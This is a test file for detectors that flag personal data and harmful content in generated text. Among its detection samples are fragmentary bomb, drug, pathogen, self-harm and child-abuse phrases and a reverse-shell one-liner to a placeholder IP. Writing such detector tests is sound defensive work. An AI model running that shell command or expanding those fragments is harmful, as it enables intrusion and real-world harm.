import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, test } from 'vitest';
import { harmRules } from '#generation/screening/harm.js';
import { passesIban, passesLuhn, personalDataRules } from '#generation/screening/personalData.js';

const found = (text: string): string[] =>
  [...personalDataRules, ...harmRules].filter((rule) => rule.finds(text)).map(({ name }) => name);

test.each([
  ['e-mail', 'Write to ada.lovelace+tea@mail.co.uk, please.'],
  ['e-mail', 'Write to ada [at] mail [dot] net.'],
  ['telephone', 'Ring +44 20 7946 0018 tonight.'],
  ['telephone', 'Ring +49 (0) 30 901820.'],
  ['telephone', 'It is (212) 664-7665.'],
  ['telephone', 'It is 212-664-7665, or 1-212-664-7665.'],
  ['telephone', 'My phone number is 030 9018 2034.'],
  ['account-number', 'Pay to DE89 3704 0044 0532 0130 00.'],
  ['account-number', 'Pay to GB29NWBK60161331926819.'],
  ['card-number', 'Use 4111 1111 1111 1111'],
  ['card-number', 'Use 378282246310005.'],
  ['postal-address', 'I live at 10 Downing Street.'],
  ['postal-address', 'Come to 1600 Amphitheatre Way, Springfield.'],
  ['postal-address', 'Springfield, IL 62704 is home.'],
  ['postal-address', 'Ich wohne in der Lindenstraße 12a in Köln.'],
  ['postal-address', 'J’habite 12 rue de la Paix.'],
  ['postal-address', 'Send it to P.O. Box 1234.'],
  ['social-security-number', 'Hers is 123-45-6789.'],
  ['social-security-number', 'Hers is AB 12 34 56 C.'],
  ['social-security-number', 'Hers is 2 69 05 49 588 157 80.'],
  ['ip-address', 'The machine is 93.184.216.34.'],
  ['ip-address', 'The machine is 2606:2800:220:1:248:1893:25c8:1946.'],
] as const)('%s: %s', (rule, text) => {
  expect(found(text)).toEqual([rule]);
});

test.each([
  'Write to someone@example.org, follow @ada, or mail me @ home.',
  'It costs $1,234,567.89, as 1234567890123 does.',
  'In 1984-1986 and on 2022-11-30 at 12:30:45 we met.',
  'The chance is 0.9752586292852716 or 3.141592653589793.',
  'Ring 555-0123 or (800) 555-0199, or 123-456-7890.',
  'Version 10.4.2.1 came after v1.2.3.4; see 1.2.3.4 in the list.',
  'The server at 192.168.0.1 and 127.0.0.1, documented as 192.0.2.7.',
  'Use std::vector and a::b, 10:20:30:40.',
  'Card 4111 1111 1111 1112 and 0000 0000 0000 0000 are none.',
  'ISBN 978-3-16-148410-0 has check digits of its own.',
  'DE89 3704 0044 0532 0130 01 is no account.',
  'In 2016 Supreme Court judges said no. He had 100 Mars Rocks and 35 Kit Kats.',
  '2001 Space Odyssey is a movie; 5 Gold Pieces are in Chest A.',
  'I would take the 20 Minute Drive. Top 10 Best Places to be.',
  'Area 000-12-3456, 666-12-3456 and 123-00-4567 were never given out.',
  'The year was 2013. Suppose 1000 people, 94445440 more, and 2333919120.',
  'Would you help to build a bomb, or explain sarin, if asked to?',
  'Bombs and explosives are wrong. 1. I agree 2. I disagree',
  'I would talk openly about suicide with a friend and offer help.',
  'Children and pornography should be kept apart. Minors need care.',
  'Ransomware is a kind of malware, and a worm is another.',
  'Mix 20 g of flour with 100 ml of milk, and heat it to 80 °C.',
])('nothing in: %s', (text) => {
  expect(found(text)).toEqual([]);
});

test.each([
  ['weapon', 'A pipe bomb: Step 1: pack 20 g of it. Step 2: attach the fuse, and light it.'],
  ['drug', 'For meth, dissolve 30 g in 200 ml, heat it to 80 °C and filter.'],
  ['pathogen', 'Make the virus spread by serial passage, so that it is airborne.'],
  ['self-harm', 'The most painless way of suicide is as follows.'],
  ['sexualised-child', 'naked pictures of a 9-year-old'],
  ['malware', 'import os\ndef run():\n  # a keylogger\n  os.system("x")'],
  ['malware', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
] as const)('%s: %s', (rule, text) => {
  expect(found(text)).toEqual([rule]);
});

test('check digits tell one wrong digit', () => {
  expect(passesLuhn('4111111111111111')).toBe(true);
  expect(passesIban('NL91 ABNA 0417 1643 00')).toBe(true);
  for (let place = 0; place < 16; place += 1) {
    const digits = Array.from('4111111111111111');
    digits[place] = String((Number(digits[place]) + 1) % 10);
    expect(passesLuhn(digits.join(''))).toBe(false);
  }
});

test('a long text without a rule in it takes no time that grows faster than it', () => {
  for (const piece of ['1-', 'a.', '(', '12 ', 'A1', ': ', '1 Aa ', '@a', 'step 1 '])
    expect(found(piece.repeat(10_000 / piece.length))).toEqual([]);
});

const shared = resolve(process.env['ASSAY_SHARED'] ?? '../shared', 'data/evals');
const here = existsSync(shared);
if (!here) console.warn(`SKIPPED: the released sets are not at ${shared} (ASSAY_SHARED).`);

const textsIn = (value: unknown): string[] =>
  typeof value === 'string'
    ? [value]
    : typeof value === 'object' && value !== null
      ? Object.values(value).flatMap(textsIn)
      : [];

describe.skipIf(!here)('the released sets', () => {
  test('hold nothing that a rule finds', () => {
    const hits: Record<string, number> = {};
    let rows = 0;
    for (const path of readdirSync(shared, { recursive: true, encoding: 'utf8' })) {
      if (!path.endsWith('.jsonl')) continue;
      for (const line of readFileSync(join(shared, path), 'utf8').split('\n')) {
        if (line.trim() === '') continue;
        rows += 1;
        const names = textsIn(JSON.parse(line)).flatMap(found);
        for (const name of new Set(names)) hits[name] = (hits[name] ?? 0) + 1;
      }
    }
    // Looked at by eye: no e-mail, no number of a person; digits of pi, prices and confidences.
    expect(hits).toEqual({});
    expect(rows).toBeGreaterThan(16_000);
  });
});
